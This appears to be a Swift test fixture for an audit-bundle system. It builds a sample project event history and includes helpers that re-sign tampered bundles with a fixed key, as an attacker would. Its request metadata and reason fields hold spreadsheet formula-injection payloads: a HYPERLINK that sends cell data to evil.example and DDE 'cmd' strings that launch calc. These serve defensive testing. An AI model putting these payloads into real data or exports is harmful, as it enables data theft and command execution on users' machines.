import ApexAudit
import ApexDomain
import ApexStore
import Crypto
import Foundation

/// A real bundle, made in-process by ``AuditBundle/write(store:project:key:to:now:)`` from an
/// in-memory store holding one project's life (and another project's events interleaved), and
/// helpers to take it apart, change it and sign it again, as an attacker with their own key would.
struct BundleFixture: Sendable {
    /// The key that signed the bundle and its checkpoints (fixed, so failures reproduce).
    static let key = try! Curve25519.Signing.PrivateKey(rawRepresentation: Data(repeating: 7, count: 32))

    let bytes: [UInt8]
    let projectID: UUID

    /// Line 1 (the body) without its newline.
    var body: [UInt8] { Array(bytes[..<bytes.firstIndex(of: 0x0A)!]) }
    /// Line 1 parsed.
    var bodyValue: JSONValue { try! JSONDecoder().decode(JSONValue.self, from: Data(body)) }

    /// Hostile request metadata and reasons, as a client can send them: every cell a
    /// spreadsheet would run as a formula (`=`, `+`, `-`, `@` first).
    static let metadata = RequestMetadata(
        ipAddress: "203.0.113.9", userAgent: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", xForwardedFor: "+1-1+cmd|' /C calc'!A0",
        peerAddress: "-2+3", requestID: "@SUM(1+1)*cmd|' /C calc'!A0", traceID: "4bf92f3577b34da6a3ce929d0e0e4736")
    static let statusReason = "=cmd|' /C calc'!A0"
    static let updateReason = "+1 approver, with a comma"

    /// An in-memory store holding one project's life, and another project's events interleaved.
    static func store() async throws -> (store: InMemoryEventStore, projectID: UUID) {
        let store = InMemoryEventStore()
        let account = UUID(), owner = UUID(), project = UUID(), other = UUID(), calculation = UUID()
        func act(_ command: ProjectCommand, _ id: UUID) async throws {
            let state = try ProjectState.replay(try await store.readStream(.project(id)))
            let drafts = try ProjectDecider.decide(command, state: state, context: DecisionContext(now: Date()))
            let events = drafts.map { $0.proposed(id: UUID(), accountID: account, actor: .user(owner), requestMetadata: metadata) }
            _ = try await store.append(events, to: .project(id), expected: state.version == 0 ? .noStream : .exact(state.version))
        }
        try await act(.create(projectID: project, fields: ProjectFields(name: "Main St Pylon", tags: ["pylon"])), project)
        try await act(.create(projectID: other, fields: ProjectFields(name: "Another sign")), other)
        try await act(.update(changes: ["name": "=1+1"]), project)
        try await act(.runCalculation(calculationID: calculation, type: .poleBaseMoment, inputs: ["F": 2000, "y": 15, "Fb": 30]), project)
        try await act(.changeStatus(to: .estimating, reason: statusReason), project)
        try await act(.changeStatus(to: .submitted, reason: updateReason), project)
        return (store, project)
    }

    static func make() async throws -> BundleFixture {
        let (store, project) = try await store()
        let out = FileManager.default.temporaryDirectory.appendingPathComponent("apex-audit-fixture-\(UUID().uuidString).apexbundle")
        defer { try? FileManager.default.removeItem(at: out) }
        _ = try await AuditBundle.write(store: store, project: project, key: key, to: out)
        return BundleFixture(bytes: [UInt8](try Data(contentsOf: out)), projectID: project)
    }

    /// A bundle whose body is `value` in canonical form, signed by the fixture's key: every
    /// check past the signature then runs on what the attacker wrote.
    static func signed(_ value: JSONValue) -> [UInt8] { signed(CanonicalJSON.bytes(value)) }

    /// A bundle whose body is exactly `line1`, signed by the fixture's key.
    static func signed(_ line1: [UInt8]) -> [UInt8] {
        let signature = try! key.signature(for: Data(line1)).base64EncodedString()
        let publicKey = key.publicKey.rawRepresentation.base64EncodedString()
        return line1 + [0x0A] + AuditBundle.signatureLine(signature: signature, publicKey: publicKey) + [0x0A]
    }

    /// Verifies `bytes` the way `apex-cli audit verify-bundle` does.
    static func verify(_ bytes: [UInt8], pinned: Bool = false) -> BundleVerification {
        var verifier = BundleVerifier(pinnedKey: pinned ? key.publicKey.rawRepresentation.base64EncodedString() : nil)
        return verifier.verify(Data(bytes))
    }
}
